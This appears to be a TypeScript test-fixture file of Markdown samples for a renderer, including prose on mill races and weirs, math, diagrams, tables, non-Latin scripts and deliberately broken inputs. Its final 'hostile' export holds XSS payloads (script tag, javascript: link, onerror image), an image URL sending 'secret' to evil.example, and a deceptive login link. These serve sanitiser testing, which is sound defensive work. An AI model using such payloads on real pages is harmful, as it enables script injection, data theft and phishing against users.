export const prose = `# Two ways to hold a river

A **mill race** carries water to a wheel; a *weir* only raises its level. See [the encyclopedia](https://en.wikipedia.org/wiki/Mill_race) or https://example.org/weirs?page=2 for more. Inline \`code\`, ~~a mistake~~, H~2~O &amp; 5 &gt; 3.

## What they share

1. Both need a *gradient*.
2. Both need care:
   - silt is removed **every spring**;
   - gates are greased.
3. Both freeze.

- [x] Measure the head
- [ ] Order the wheel

> A river is never quite silent; it can never, of its very nature, be quite still.
>
> — somebody at a mill

### Numbers

| Quantity | Mill race | Weir | Unit |
|:--|--:|--:|:-:|
| Head | 3.2 | 1.1 | m |
| Flow | 0.8 | 12.5 | m³/s |
| Power | 25.1 | 134.8 | kW |

\`\`\`ts
/** Power of falling water, in kilowatts. */
export function power(headM: number, flowM3s: number, efficiency = 0.85): number {
  return 9.81 * headM * flowM3s * efficiency
}
\`\`\`

---

A claim that needs its source[^1], and another[^river].

A last line with an image: ![the old mill](https://images.example/mill.jpg) and <b>raw HTML</b> shown as text.

[^1]: Rhys, *Mills of Wales*, p. 12.
[^river]: See https://example.org/river.`

export const math = `The head loss is $h_f = f \\frac{L}{D} \\frac{v^2}{2g}$, and with \\(Q = vA\\):

$$
P = \\rho g Q H \\eta \\quad\\text{where}\\quad \\eta = \\int_0^1 x^2\\,dx
$$

It costs $5 to $10. A broken one: $\\frac{1$.`

export const diagram = `\`\`\`mermaid
flowchart LR
  River --> Headrace --> Wheel --> Tailrace --> River
\`\`\`

\`\`\`mermaid
this is no diagram
\`\`\``

export const wideTable = `| ${Array.from({ length: 12 }, (_, i) => `Column ${i + 1}`).join(" | ")} |
|${"---|".repeat(12)}
${Array.from({ length: 4 }, (_, row) => `| ${Array.from({ length: 12 }, (_, i) => `value ${row + 1}.${i + 1}`).join(" | ")} |`).join("\n")}`

export const longCode = `\`\`\`python
${Array.from({ length: 10 }, (_, i) => `def step_${i}(water, wheel):  # a line that is long enough to need scrolling on any phone in the world`).join("\n")}
\`\`\``

export const openCode = `\`\`\`ts
const wheel = { radiusM: 1.6, paddles: 24 }
for (const paddle of`

export const chinese = `## 水车与堰

水车把河流的能量变成**运动**；堰只是*抬高*水位。两者都需要坡度，也都怕淤泥。

1. 引水渠把水带到轮子。
2. 尾水渠把水送回河里。`

export const rightToLeft = `طاحونة الماء تحوّل طاقة النهر إلى **حركة**.

- القناة تحمل الماء
- العجلة تدور

\`\`\`sh
npm start
\`\`\``

export const hostile = `<script>alert(1)</script>

[click](javascript:alert(1)) [data](data:text/html,x) <img src=x onerror=alert(1)>

![](https://evil.example/?q=secret) [bank](https://bank.example@evil.example/login)`
